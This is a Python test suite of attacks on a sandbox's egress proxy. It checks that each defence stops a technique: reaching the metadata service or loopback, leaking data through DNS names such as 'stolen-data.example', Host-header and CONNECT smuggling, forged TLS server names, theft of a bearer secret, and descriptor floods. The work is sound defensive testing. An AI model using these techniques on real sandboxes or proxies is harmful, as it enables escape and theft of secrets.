"""Attacks on egress: a sandbox that may reach one host reaches for others, and for the secrets that stay outside."""

from __future__ import annotations

import asyncio
import gc
import os
import re
import resource
import socket
from collections.abc import AsyncIterator, Callable, Coroutine, Mapping, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from outer import Act, Attack, Defence, Edit, Scene, Swap
from upstreams import Serve, host
from woodshed.model import EnvironmentSpec, SandboxPolicy
from woodshed.sandbox.egress import admission, proxy, relay, upstream, visit
from woodshed.sandbox.egress.proxy import Egress
from woodshed.sandbox.native.box import NativeSandbox

_EGRESS = "woodshed.sandbox.egress."
KEY = "the-key-of-the-company"

UNKNOWN_ADDRESS: Defence = (Swap(_EGRESS + "names:Names", "name", lambda self, address: "allowed.test"),)
JUDGED: Defence = (Swap(_EGRESS + "upstream", "why_refused", lambda address, private=False: None),)
OWN: Defence = (Swap(_EGRESS + "upstream", "is_own", lambda address, port: False),)
KNOWN: Defence = (Swap(_EGRESS + "rules:Rules", "knows", lambda self, name: True),)
GRANTED: Defence = (Swap(_EGRESS + "rules:Rules", "find",
                         lambda self, name, port: next(iter(self._exact.values()))[0]),)
REQUESTS: Defence = (Swap(_EGRESS + "relay:Relay", "_judge", lambda self, request: None),)
CONNECT: Defence = (Edit(_EGRESS + "http", '    if method == "CONNECT":\n', "    if False:\n"),)
TARGETS: Defence = (Edit(_EGRESS + "http", '    if not target.startswith("/") and (target, method)',
                         "    if False and (target, method)"),)
HELLOS: Defence = (Swap(_EGRESS + "admission:Admission", "_amiss", lambda self, hello: ""),)
OF_RULE: Defence = (Swap(_EGRESS + "inject", "of_rule", lambda rule, known: tuple(known.values())),)
CHUNKS: Defence = (Swap(_EGRESS + "answers", "_CHUNKED", re.compile(rb"(?!)")),)
BOUND: Defence = (Swap(_EGRESS + "visit:Visit", "count_sent", lambda self, count: None),)
CUT_OFF: Defence = (Edit(_EGRESS + "dns", "        if at >= len(data):\n", "        if False:\n"),)
PATIENT: Defence = (Swap(_EGRESS + "admission", "HEAD_S", 600.0), Swap(_EGRESS + "relay", "HEAD_S", 600.0),
                    Swap(_EGRESS + "proxy", "HEAD_S", 600.0))
BLOT: Defence = (Swap(_EGRESS + "inject:Blot", "pass_on", lambda self, data: data),)



def _without_end(self: Egress, end: socket.socket, doing: Coroutine[Any, Any, None]) -> None:
    self._most = 1 << 30
    _BEGIN(self, end, doing)


_BEGIN = Egress._begin
MOST: Defence = (Swap(_EGRESS + "proxy:Egress", "_begin", _without_end),)
SEATS: Defence = (Swap(_EGRESS + "seats:Seats", "free", lambda self, who: True),)

CONNECTS = """
with socket.create_connection({address}, 5) as s:
    s.settimeout(5)
    hit(s.recv(100).decode().index(T["word"]) + 1)
"""
SAYS = """
with socket.create_connection(("allowed.test", {port}), 5) as s:
    s.settimeout(5)
    s.sendall({said})
    while piece := s.recv(65536):
        sys.stderr.write(repr(piece))
"""
TELLS_A_RESOLVER = """
try:
    with socket.create_connection(("stolen-data.example", 80), 5) as s:
        s.settimeout(2)
        s.recv(10)
except OSError:
    pass
"""
OTHER_SNI = """
import ssl
context = ssl.create_default_context()
with socket.create_connection(("allowed.test", 443), 5) as s:
    context.wrap_socket(s, server_hostname="other.test")
"""
# RFC 8446, section 4.1.2: the least ClientHello, with a server name and an encrypted ClientHello (0xfe0d).
ECH = """
name = b"allowed.test"
sni = b"\\0" + struct.pack("!H", len(name)) + name
extensions = struct.pack("!HHH", 0, len(sni) + 2, len(sni)) + sni + struct.pack("!HH", 0xfe0d, 10) + b"inner-name"
extensions = struct.pack("!H", len(extensions)) + extensions
body = b"\\3\\3" + bytes(32) + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0" + extensions
hello = b"\\1" + len(body).to_bytes(3, "big") + body
with socket.create_connection(("allowed.test", 443), 5) as s:
    s.settimeout(5)
    s.sendall(b"\\x16\\3\\1" + struct.pack("!H", len(hello)) + hello)
    s.recv(100)
"""
ASKS = """
import urllib.request
ask = urllib.request.Request({url}, headers={{"Authorization": "Bearer " + os.environ["KEY"]}})
answer = urllib.request.urlopen(ask, timeout=5).read()
hit(b"{key}" in answer and "the secret")
"""
# A proxy of the sandbox's own, asked by another program of it for a machine by its address.
RELAYS = """
import threading
relay = socket.create_server(("127.0.0.1", 3128))
def serve():
    peer, _ = relay.accept()
    asked = peer.recv(1000).split()[1].decode().rpartition(":")
    with socket.create_connection((asked[0], int(asked[2])), 5) as s:
        s.settimeout(5)
        peer.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n" + s.recv(100))
    peer.close()
threading.Thread(target=serve, daemon=True).start()
with socket.create_connection(("127.0.0.1", 3128), 5) as s:
    s.settimeout(5)
    s.sendall(f"CONNECT {T['addresses'][1]}:80 HTTP/1.1\\r\\n\\r\\n".encode())
    got = b""
    while piece := s.recv(1000):
        got += piece
    hit(got.decode().index(T["word"]) + 1)
"""
# RFC 1035, section 4.1: cut off after a label, within one, at the length; and over TCP, also a length that is not kept.
MALFORMED = r"""
good = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07allowed\x04test\0\0\x01\0\x01"
bad = [good[:20], good[:24], good[:25], good[:12], good[:12] + b"\xc0\x0c\0\x01\0\x01", good[:12] + b"\x3f" * 3000]
for said in bad:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(said, ("9.9.9.9", 53))
for said in (b"", *bad):
    with socket.create_connection(("9.9.9.9", 53), 5) as s:
        s.sendall(struct.pack("!H", len(said)) + said)
with socket.create_connection(("9.9.9.9", 53), 5) as s:
    s.sendall(b"\xff\xff" + bytes(100))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.connect(("9.9.9.9", 53))
    s.send(good)
    try:
        s.recv(1000)
    except OSError:
        hit("no answer")
"""
# All the connections that the policy admits, each stopping at another place; then another program's.
STOPS = r"""
held = []
for port, start in ((80, b""), (80, b"GET / HT"), (443, b"\x16\3\1\2\0"), (53, b"\0\x20abc")):
    held.append(socket.create_connection(("allowed.test", port), 5))
    held[-1].sendall(start)
for _ in range(8):
    time.sleep(0.25)
    try:
        with socket.create_connection(("allowed.test", 80), 5) as s:
            s.settimeout(5)
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
            if s.recv(1000):
                os._exit(0)
    except OSError:
        pass
hit("nothing passes")
"""
FLOODS = r"""
gate = socket.create_connection(("gate.test", 8080), 5)
gate.settimeout(10)
address = socket.gethostbyname("allowed.test")
gate.recv(10)
held = []
for _ in range(390):
    held.append(socket.socket())
    held[-1].setblocking(False)
    held[-1].connect_ex((address, 443))
gate.sendall(b"done")
time.sleep(60)
"""
FETCHES = r"""
gate = socket.create_connection(("gate.test", 8080), 5)
gate.settimeout(20)
address = socket.gethostbyname("allowed.test")
gate.recv(10)
try:
    for _ in range(5):  # a descriptor that happens to come free may serve one of them
        with socket.create_connection((address, 80), 4) as s:
            s.settimeout(4)
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
            if not s.recv(1000):
                hit("hung up")
        time.sleep(0.2)
except OSError as error:
    hit(f"another sandbox got nothing: {error}")
"""


async def _box(scene: Scene, script: str, *rules: Mapping[str, Any]) -> str | None:
    policy = SandboxPolicy.parse({"network": {"rules": list(rules)}})
    box = await scene.engine.create(EnvironmentSpec(), policy)
    scene.boxes.append(box)
    return await scene.run_in(box, script)


def _planted(script: str, *, resolves: Sequence[str] | None = None) -> Act:
    """The allowed host is a planted service that says the word first; by its address, or where its name leads."""

    async def act(scene: Scene) -> str | None:
        rule = {"host": "allowed.test", "ports": [80], "raw": True}
        with pytest.MonkeyPatch.context() as patch:
            if resolves is None:
                rule["address"] = "203.0.113.7:80"
            else:
                patch.setattr(upstream, "_addresses", lambda name: list(resolves))
            return await _box(scene, script, rule)

    return act


async def _asked_outside(scene: Scene) -> str | None:
    """A name that is not allowed, with data in it, reaches a resolver."""
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["203.0.113.7"]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(upstream, "_addresses", resolve)
        await _box(scene, TELLS_A_RESOLVER, {"host": "allowed.test", "ports": [80], "raw": True})
    return next((name for name in asked if "stolen" in name), None)


def _heard(script: str, word: bytes) -> Act:
    """The allowed host hears ``word``, which is for another."""

    async def act(scene: Scene) -> str | None:
        heard = bytearray()

        async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            while word not in heard and (data := await reader.read(65536)):
                heard.extend(data)

        async with host(serve=listen) as allowed:
            await _box(scene, script, {"host": "allowed.test", "address": allowed.address})
            return word.decode() if word in heard else None

    return act


async def _malformed(scene: Scene) -> str | None:
    """A question cut off anywhere leaves the next without an answer, or raises in the engine's loop."""
    raised: list[str] = []
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda loop, context: raised.append(repr(context.get("exception"))))
    try:
        got = await _box(scene, MALFORMED, {"host": "allowed.test"})
        gc.collect()  # what a task raised is said when nobody can ask it any more
        await asyncio.sleep(0)
        return got or (raised[0] if raised else None)
    finally:
        loop.set_exception_handler(None)


async def _stops(scene: Scene) -> str | None:
    """Connections that never come to say what they want leave no room for any other program of the sandbox."""
    async with host() as allowed:
        with pytest.MonkeyPatch.context() as patch:
            for module in (admission, relay, proxy):
                if vars(module)["HEAD_S"] == visit.HEAD_S:  # not without the defence
                    patch.setattr(module, "HEAD_S", 0.3)
            policy = {"rules": [{"host": "allowed.test", "address": allowed.address}], "connections": 4}
            box = await scene.engine.create(EnvironmentSpec(), SandboxPolicy.parse({"network": policy}))
            scene.boxes.append(box)
            return await scene.run_in(box, STOPS)


async def _floods(scene: Scene) -> str | None:
    """One sandbox's half-open connections take every descriptor of the engine, so that another's are not accepted."""
    async with host() as allowed, _gate() as (gate, arrived):
        rules = [{"host": "allowed.test", "address": allowed.address},
                 {"host": "gate.test", "ports": [8080], "raw": True, "address": gate}]

        async def begun(script: str) -> tuple[asyncio.Task[str | None], asyncio.StreamReader, asyncio.StreamWriter]:
            policy = SandboxPolicy.parse({"network": {"rules": rules, "connections": 64}})
            box: NativeSandbox = await scene.engine.create(EnvironmentSpec(), policy)
            scene.boxes.append(box)
            return asyncio.ensure_future(scene.run_in(box, script)), *await asyncio.wait_for(arrived.get(), 15)

        flooding, said, to_flood = await begun(FLOODS)
        fetching, _, to_fetch = await begun(FETCHES)
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (len(list(Path("/proc/self/fd").iterdir())) + 150, hard))
        try:
            to_flood.write(b"go")
            await said.readexactly(4)
            await _settled()
            to_fetch.write(b"go")
            return await fetching
        finally:
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
            flooding.cancel()


async def _settled() -> None:
    """This process opens no more: what was going to be accepted has been, however busy the machine."""
    before = -1
    with suppress(OSError):  # none is left to look with
        while (now := len(list(Path("/proc/self/fd").iterdir()))) != before:
            before = now
            await asyncio.sleep(0.3)


@asynccontextmanager
async def _gate() -> AsyncIterator[tuple[str, asyncio.Queue[tuple[asyncio.StreamReader, asyncio.StreamWriter]]]]:
    """Where programs in sandboxes say that they are ready, and wait to be told to go on."""
    arrived: asyncio.Queue[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = asyncio.Queue()
    ended = asyncio.Event()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        arrived.put_nowait((reader, writer))
        await ended.wait()

    async with host(serve=serve) as made:
        yield made.address, arrived
        ended.set()


async def _in_chunks(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A host that repeats what it was asked, a chunk for each byte."""
    head = await reader.readuntil(b"\r\n\r\n")
    writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    writer.write(b"".join(b"1\r\n%c\r\n" % byte for byte in head) + b"0\r\n\r\n")
    await writer.drain()


async def _more_than_admitted(scene: Scene) -> str | None:
    """The allowed host hears what comes after the bytes that a rule admits."""
    heard = bytearray()

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while b"stolen" not in heard and (data := await reader.read(65536)):
            heard.extend(data)

    async with host(serve=listen) as allowed:
        rule = {"host": "allowed.test", "address": allowed.address, "raw": True, "max_sent_bytes": 100_000}
        await _box(scene, _says('b"x" * 100_000 + b"stolen"'), rule)
        return "stolen" if b"stolen" in heard else None


def _kept(script: str, *, rules: Callable[..., Sequence[Mapping[str, Any]]], answer: bool = False,
          serve: Serve | None = None) -> Act:
    """The secret of a.test arrives at b.test, or with ``answer`` in the sandbox."""

    async def act(scene: Scene) -> str | None:
        async with AsyncExitStack() as stack:
            patch = stack.enter_context(pytest.MonkeyPatch.context())
            patch.setitem(os.environ, "ATTACKED_KEY", KEY)
            folder = Path(stack.enter_context(TemporaryDirectory()))
            (folder / "a").mkdir()
            (folder / "b").mkdir()
            one = await stack.enter_async_context(
                host(name="a.test", folder=folder / "a", serve=serve, body=lambda head: head))
            two = await stack.enter_async_context(host(name="b.test", folder=folder / "b"))
            plain = await stack.enter_async_context(host())
            got = await _box(scene, script, *rules(one, two, plain))
            heard = [head for other in (two, plain) for head in other.heads if KEY.encode() in head]
            return got if answer else "heard" if heard else None

    return act


_SECRET = {"secrets": [{"name": "KEY", "env": "ATTACKED_KEY"}]}


def _two(one: Any, two: Any, plain: Any) -> Sequence[Mapping[str, Any]]:
    return ({"host": "a.test", "address": one.address, "ca_file": one.ca_file, "upstream_tls": True, **_SECRET},
            {"host": "b.test", "address": two.address, "ca_file": two.ca_file, "upstream_tls": True})


def _clear(one: Any, two: Any, plain: Any) -> Sequence[Mapping[str, Any]]:
    return ({"host": "a.test", "address": plain.address, "intercept": True, **_SECRET},)


def _asks(url: str) -> str:
    return ASKS.format(url=repr(url), key=KEY)


def _says(said: str, port: int = 80) -> str:
    return SAYS.format(said=said, port=port)


_ALLOWED = CONNECTS.format(address='("allowed.test", 80)')
ATTACKS = (
    # 11: addresses
    Attack(11, "with a network: an address that no name led to", defences=(UNKNOWN_ADDRESS,),
           act=_planted(CONNECTS.format(address='(T["addresses"][1], 80)'))),
    Attack(11, "with a network: the metadata service by its address", defences=(UNKNOWN_ADDRESS,),
           act=_planted(CONNECTS.format(address='(T["addresses"][0], 80)'))),
    Attack(11, "an allowed name that leads to the metadata service", defences=(JUDGED, OWN),
           act=_planted(_ALLOWED, resolves=["169.254.169.254"])),
    Attack(11, "an allowed name that leads to this machine's loopback", defences=(JUDGED, OWN),
           act=_planted(_ALLOWED, resolves=["127.0.0.1"])),
    Attack(11, "an allowed name that leads to IPv4 in IPv6", defences=(JUDGED, OWN), needs=("IPv6",),
           act=_planted(_ALLOWED, resolves=["::ffff:203.0.113.7"])),
    Attack(11, "an allowed name that leads to a machine by IPv6", defences=(JUDGED, OWN), needs=("IPv6",),
           act=_planted(_ALLOWED, resolves=["2001:db8::7"])),
    Attack(11, "with a network: IPv4 in IPv6", defences=(UNKNOWN_ADDRESS,), needs=("IPv6",), act=_planted(
        CONNECTS.format(address='("::ffff:" + T["addresses"][1], 80)'))),
    Attack(11, "a relay of the sandbox's own", defences=(UNKNOWN_ADDRESS,), act=_planted(RELAYS)),
    Attack(11, "more bytes than a rule admits", defences=(BOUND,), act=_more_than_admitted),
    # 12: names
    Attack(12, "questions for names that are cut off", defences=(CUT_OFF,), act=_malformed),
    Attack(12, "data in a name for the proxy's own resolver", defences=(KNOWN, GRANTED), act=_asked_outside),
    # 13: confusing the proxy
    Attack(13, "a Host that is another's", defences=(REQUESTS,), act=_heard(
        _says(r'b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"'), b"other.test")),
    Attack(13, "a second request for another's Host", defences=(REQUESTS,), act=_heard(
        _says(r'b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"'),
        b"other.test")),
    Attack(13, "a proxy's target", defences=(TARGETS,), act=_heard(
        _says(r'b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"'), b"other.test")),
    Attack(13, "CONNECT", defences=(CONNECT, TARGETS), act=_heard(
        _says(r'b"CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"'), b"other.test")),
    Attack(13, "a server name that is another's", defences=(HELLOS,), act=_heard(OTHER_SNI, b"other.test")),
    Attack(13, "an encrypted ClientHello", defences=(HELLOS,), act=_heard(ECH, b"inner-name")),
    Attack(13, "a secret for another host", defences=(OF_RULE,), act=_kept(_asks("http://b.test/"), rules=_two)),
    Attack(13, "a secret in an answer", defences=(BLOT,), act=_kept(_asks("http://a.test/"), rules=_two, answer=True)),
    Attack(13, "a secret in the chunks of an answer", defences=(CHUNKS,),
           act=_kept(_asks("http://a.test/"), rules=_two, answer=True, serve=_in_chunks)),
    Attack(13, "a secret in the clear", defences=(REQUESTS,), act=_kept(_asks("http://a.test/"), rules=_clear)),
    # 9: using up what others need
    Attack(9, "connections that say nothing", defences=(PATIENT,), act=_stops),
    Attack(9, "connections until there are none left", defences=(MOST, SEATS), act=_floods),
)
